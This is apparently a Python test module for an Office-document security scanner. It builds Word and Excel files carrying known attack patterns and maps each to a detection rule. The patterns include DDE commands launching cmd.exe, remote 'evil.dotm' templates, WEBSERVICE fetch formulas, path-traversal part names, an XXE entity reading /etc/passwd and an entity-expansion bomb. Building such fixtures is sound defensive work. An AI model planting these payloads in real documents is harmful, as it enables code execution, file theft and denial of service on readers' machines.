"""Files that act or reach out when a person opens them: they are read, and what they hold is told."""

from __future__ import annotations

from kit.ooxml.opc.package import pack_part, write_zip
from tests.fuzz.mutate import parts_of
from tests.hostile.parts import MICROSOFT, SHEET, WORD, body, cells, field, related, with_parts

DOCUMENT, BOOK, SETTINGS = "word/document.xml", "xl/workbook.xml", "word/settings.xml"
MACROS = f"{MICROSOFT}/vbaProject"
DDE_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
    b'ddeTopic="/c calc"/></externalLink>'
)
HEADER = b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">%s</w:hdr>'
TYPE = b'<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
BOMB = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'


def doubled(more: bytes) -> bytes:
    """The complaint with its main part twice."""
    parts = [*parts_of(WORD), (DOCUMENT, dict(parts_of(WORD))[DOCUMENT] + more)]
    return write_zip(pack_part(name, part) for name, part in parts)


def declared(base: bytes, part: str, declaration: bytes) -> bytes:
    """The file with a declaration before the root of a part."""
    content = dict(parts_of(base))[part]
    at = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
    return with_parts(base, {part: content[:at] + declaration + content[at:]})


def formula(text: str) -> bytes:
    """The log with a formula far below its table."""
    return cells(f'<row r="900"><c r="A900"><f>{text}</f><v>1</v></c></row>')


def within(outer: str, inner: str) -> str:
    """A field whose instruction ends in another field."""
    separator = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    return field(outer).replace(separator, field(inner)[len("<w:p>") : -len("</w:p>")] + separator)


def cases(url: str) -> dict[str, tuple[bytes, str]]:
    """Files by what is wrong with them, each with the rule that tells; "" for none, "unread …" for one that refuses."""
    far = url.replace("http:", "file:") + "/share"
    return {
        "macros in Word": (
            related(WORD, DOCUMENT, (MACROS, "vbaProject.bin", False), parts={"word/vbaProject.bin": b"x"}),
            "SEC-01",
        ),
        "macros under another name": (
            related(WORD, DOCUMENT, (MACROS, "x.bin", False), parts={"word/x.bin": b"x"}),
            "SEC-01",
        ),
        "macros in Excel": (
            related(SHEET, BOOK, (MACROS, "vbaProject.bin", False), parts={"xl/vbaProject.bin": b"x"}),
            "SEC-01",
        ),
        "macros of Excel 4": (
            related(
                SHEET,
                BOOK,
                (f"{MICROSOFT}/xlMacrosheet", "macrosheets/sheet1.xml", False),
                parts={"xl/macrosheets/sheet1.xml": b"<x/>"},
            ),
            "SEC-01",
        ),
        "DDE field": (body(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc")), "SEC-02"),
        "DDE field of one element": (
            body('<w:p><w:fldSimple w:instr="DDE cmd /c"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'),
            "SEC-02",
        ),
        "DDE field in a header": (
            with_parts(WORD, {"word/header9.xml": HEADER % field("DDEAUTO cmd").encode()}),
            "SEC-02",
        ),
        "DDE formula": (formula("cmd|' /C calc'!A0"), "SEC-02"),
        "DDE link": (
            related(
                SHEET,
                BOOK,
                ("externalLink", "externalLinks/externalLink1.xml", False),
                parts={"xl/externalLinks/externalLink1.xml": DDE_LINK},
            ),
            "SEC-02",
        ),
        "remote template": (related(WORD, SETTINGS, ("attachedTemplate", f"{url}/evil.dotm", True)), "SEC-03"),
        "template on a share": (related(WORD, SETTINGS, ("attachedTemplate", "\\\\host\\evil.dotm", True)), "SEC-03"),
        "template on the writer's disk": (
            related(WORD, SETTINGS, ("attachedTemplate", "file:///C:\\a.dotx", True)),
            "",
        ),
        "OLE object": (
            related(WORD, DOCUMENT, ("oleObject", "embeddings/o.bin", False), parts={"word/embeddings/o.bin": b"x"}),
            "SEC-04",
        ),
        "embedded workbook": (
            related(WORD, DOCUMENT, ("package", "embeddings/a.xlsx", False), parts={"word/embeddings/a.xlsx": SHEET}),
            "SEC-04",
        ),
        "ActiveX": (
            related(
                SHEET,
                "xl/worksheets/sheet1.xml",
                ("control", "../activeX/a.xml", False),
                parts={"xl/activeX/a.xml": b"<x/>"},
            ),
            "SEC-04",
        ),
        "imported page": (
            related(WORD, DOCUMENT, ("aFChunk", "a.htm", False), parts={"word/a.htm": b"<html>"}),
            "SEC-04",
        ),
        "figures of a chart": (
            related(
                WORD,
                "word/charts/chart1.xml",
                ("package", "../embeddings/a.xlsx", False),
                parts={"word/charts/chart1.xml": b"<x/>", "word/embeddings/a.xlsx": SHEET},
            ),
            "",
        ),
        "linked object": (related(WORD, DOCUMENT, ("oleObject", f"mhtml:{url}/x!y", True)), "SEC-05"),
        "linked part of a document": (related(WORD, DOCUMENT, ("subDocument", f"{url}/x.docx", True)), "SEC-05"),
        "picture on a share": (related(WORD, DOCUMENT, ("image", far, True)), "SEC-05"),
        "picture on the web": (related(WORD, DOCUMENT, ("image", f"{url}/x.png", True)), ""),
        "link to the web": (related(WORD, DOCUMENT, ("hyperlink", f"{url}/x", True)), ""),
        "link to a file": (related(WORD, DOCUMENT, ("hyperlink", "file:///C:/x.exe", True)), "SEC-05"),
        "fetching field": (body(field(f'INCLUDEPICTURE "{url}/x.png" \\d')), "SEC-05"),
        "fetching fields": (
            body(field("AUTHOR") + field('LINK Excel.Sheet.12 "\\\\evil\\share\\x.xlsx" R1C1 \\a')),
            "SEC-05",
        ),
        "fetching field with a switch": (body(field(f'DATABASE \\d "{url}/x.mdb" \\s "SELECT 1"')), "SEC-05"),
        "field within a field": (body(within("IF 1 = 1 ", "DDEAUTO cmd")), "SEC-02"),
        "field of the writer's disk": (body(field('DATABASE \\d "C:\\\\a.mdb" \\c \\a')), ""),
        "field that names DDE": (body(field('HYPERLINK "https://example.com/dde"')), ""),
        "linked workbook": (
            related(
                SHEET,
                "xl/externalLinks/externalLink1.xml",
                ("externalLinkPath", f"{url}/x.xlsx", True),
                parts={"xl/externalLinks/externalLink1.xml": b"<x/>"},
            ),
            "SEC-05",
        ),
        "fetching formula": (formula(f'_xlfn.WEBSERVICE("{url}")'), "SEC-05"),
        "data connection": (with_parts(SHEET, {"xl/connections.xml": b"<connections/>"}), "SEC-05"),
        "part outside the package": (with_parts(WORD, {"../../etc/cron.d/evil": b"x"}), "SEC-06"),
        "part on a drive": (with_parts(SHEET, {"C:\\evil.exe": b"x"}), "SEC-06"),
        "part twice, alike": (doubled(b""), "SEC-07"),
        "part twice, different": (doubled(b" "), "unread SEC-07 duplicate-part"),
        "entity from a file": (declared(WORD, DOCUMENT, TYPE), "unread SEC-08 dtd"),
        "entities in entities": (declared(SHEET, "xl/styles.xml", BOMB), "unread SEC-08 dtd"),
        "entity in relationships": (declared(WORD, "_rels/.rels", TYPE), "unread SEC-08 dtd"),
    }
